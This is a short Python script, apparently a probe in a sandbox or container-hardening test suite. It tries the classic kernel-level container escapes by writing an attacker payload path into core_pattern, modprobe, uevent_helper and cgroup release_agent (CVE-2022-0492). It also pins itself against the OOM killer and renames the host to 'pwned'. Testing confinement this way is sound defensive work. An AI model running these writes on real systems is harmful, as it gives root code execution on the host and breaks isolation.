"""Write the kernel's global knobs that container escapes use: core_pattern (a pipe runs as
root on the host at the next crash), modprobe and uevent_helper (run as root by the kernel),
cgroup v1 release_agent (CVE-2022-0492), and make this process immune to the OOM killer.
/proc/sysrq-trigger is only opened, never written."""
import glob
import os

from attack import A, P

evil = P["evil"]


def write(path, text):
    with open(path, "w") as f:
        f.write(text)


A.attempt("core_pattern", write, "/proc/sys/kernel/core_pattern", "|" + evil)
A.attempt("modprobe", write, "/proc/sys/kernel/modprobe", evil)
A.attempt("uevent_helper", write, "/sys/kernel/uevent_helper", evil)
for i, path in enumerate(sorted(glob.glob("/sys/fs/cgroup/*/release_agent"))):
    A.attempt("release_agent%d" % i, write, path, evil)
    A.attempt("notify_on_release%d" % i,
              write, os.path.join(os.path.dirname(path), "notify_on_release"), "1")
A.attempt("sysrq_open", lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY)))
A.attempt("drop_caches", write, "/proc/sys/vm/drop_caches", "1")
A.attempt("hostname_sysctl", write, "/proc/sys/kernel/hostname", "pwned")
A.attempt("oom_score_adj", write, "/proc/self/oom_score_adj", "-1000")
A.finish(reraise="core_pattern")
